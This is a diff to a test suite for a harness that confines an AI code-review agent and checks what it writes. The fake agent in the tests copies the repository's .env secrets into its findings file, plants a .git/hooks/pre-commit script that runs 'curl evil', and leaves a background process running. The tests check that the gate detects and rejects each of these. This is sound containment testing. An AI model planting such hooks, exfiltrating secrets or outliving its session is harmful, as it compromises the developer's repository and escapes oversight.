@@ -101,7 +101,7 @@ describe('#26 secret files: excluded by name, never read, never shown to the age
       async () => {
         const repo = secretsRepo();
         expect(cli(repo, ['review', 'scope', 'sec', '--base', 'HEAD~2']).code).toBe(0);
-        const out = `_bmad-output/review/sec`;
+        const out = `_bmad-output/review/sec/attempts/1`; // the first attempt's part: where the agent may write
         // The listing goes to coverage.json; under bwrap the agent also copies .env by absolute path.
         const args = ['--list', `${out}/coverage.json`, ...(isolate === 'bwrap' ? ['--copy', `${repo}/.env=${out}/findings.json`] : [])];
         const r = await gateWithAgent(repo, 'sec', args, { isolate });
@@ -217,8 +217,8 @@ describe('#31 #32 #33 the agent: its configuration, its arguments, what it leave
     }
     commitAll(repo, 'agent config');
     expect(cli(repo, ['review', 'scope', 'cfg', '--base', 'HEAD~2']).code).toBe(0);
-    const r = await gateWithAgent(repo, 'cfg', ['--list', '_bmad-output/review/cfg/coverage.json'], { isolate: 'copy' });
-    const listing = readFileSync(join(folderOf(repo, 'cfg'), 'coverage.json'), 'utf8').split('\n');
+    const r = await gateWithAgent(repo, 'cfg', ['--list', '_bmad-output/review/cfg/attempts/1/coverage.json'], { isolate: 'copy' });
+    const listing = readFileSync(join(folderOf(repo, 'cfg'), 'attempts/1/coverage.json'), 'utf8').split('\n');
     for (const p of Object.keys(config)) expect(listing).not.toContain(p);
     expect(listing).toContain('src/cart.js');
     expect(r.stdout).toMatch(
@@ -248,6 +248,7 @@ describe('#31 #32 #33 the agent: its configuration, its arguments, what it leave
     expect(viaCommand.outputs.verdict).toBe('incomplete');
     expect(viaCommand.outputs['exit-code']).toBe('2');
     expect(viaCommand.summary).toMatch(/the agent cannot run\n\nagent custom: .*fake-agent\.mjs; touch .* is not an executable file/);
+    expect(existsSync(join(folderOf(repo, 'sh'), 'attempts/2'))).toBe(false);
     expect(existsSync(marker)).toBe(false);
   });
 
@@ -256,16 +257,16 @@ describe('#31 #32 #33 the agent: its configuration, its arguments, what it leave
     expect(cli(repo, ['review', 'scope', 'bg']).code).toBe(0);
     const hash = scopeHashOf(repo, 'bg');
     const evidence = [
-      '--write',
-      `_bmad-output/review/bg/findings.json=${JSON.stringify({ schema: 'bmad-plus/review-findings/1', scopeSha256: hash, findings: [] })}`,
-      '--write',
-      `_bmad-output/review/bg/coverage.json=${JSON.stringify({ schema: 'bmad-plus/review-coverage/1', scopeSha256: hash, items: [{ path: 'src/cart.js', outcome: 'completed' }], run: { stop: 'completed' } })}`,
+      '--write-output',
+      `findings=${JSON.stringify({ schema: 'bmad-plus/review-findings/1', scopeSha256: hash, findings: [] })}`,
+      '--write-output',
+      `coverage=${JSON.stringify({ schema: 'bmad-plus/review-coverage/1', scopeSha256: hash, items: [{ path: 'src/cart.js', outcome: 'completed' }], run: { stop: 'completed' } })}`,
     ];
     const r = await gateWithAgent(repo, 'bg', ['--background', '--write', '.git/hooks/pre-commit=#!/bin/sh\ncurl evil', ...evidence], {
       isolate: 'none',
     });
     expect(r.outputs).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
-    expect(r.summary).toMatch(/the agent changed files outside findings\.json and coverage\.json: \.git\/hooks\/pre-commit/);
+    expect(r.summary).toMatch(/the agent changed files outside findings\.json and coverage\.json: \.git\/hooks\/pre-commit(?!,)/);
     expect(r.stdout).toMatch(/1 leftover process\(es\) killed/);
     const pid = Number(/BACKGROUND_PID (\d+)/.exec(r.stdout)?.[1]);
     expect(pid).toBeGreaterThan(0);
